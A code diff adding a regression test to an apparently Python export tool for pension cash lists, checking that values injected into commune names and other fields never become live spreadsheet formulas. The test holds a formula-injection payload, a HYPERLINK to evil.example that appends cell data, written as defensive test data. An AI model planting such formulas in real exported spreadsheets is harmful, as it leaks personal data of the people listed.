@@ -78,6 +78,21 @@ def test_the_xlsx_keeps_ids_as_text_grouped_by_commune_with_totals(tmp_path: Pat
     assert cell.data_type == "s"
 
 
+def test_no_text_from_the_table_becomes_a_formula_headings_included(tmp_path: Path) -> None:
+    """The attacker's finding: a commune named =HYPERLINK(…) reached the commune's heading,
+    which openpyxl wrote as a live formula in the list the post office prints. Every field
+    that comes from the table carries a formula here; no cell of the workbook may be one."""
+    formula = '=HYPERLINK("http://evil.example/?"&F6,"Bấm vào đây")'
+    hostile = [traced(2, "001190012345", formula, 100_000, "luong_huu", "+" + formula,
+                      "-" + formula, formula, arrears="@" + formula)]
+    paths = write_list(tmp_path, "cash_list", map(list_row, hostile), CASH_LIST, HEADING,
+                       delimiter=";")
+    sheet = load_workbook(paths["cash_list.xlsx"]).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    assert any(str(cell.value).startswith(formula + " — ") for cell in cells)  # the heading
+
+
 def test_the_csv_keeps_the_tables_delimiter_and_the_html_a_page_per_commune(
         tmp_path: Path) -> None:
     paths = write_list(tmp_path, "cash_list", map(list_row, ROWS), CASH_LIST, HEADING,
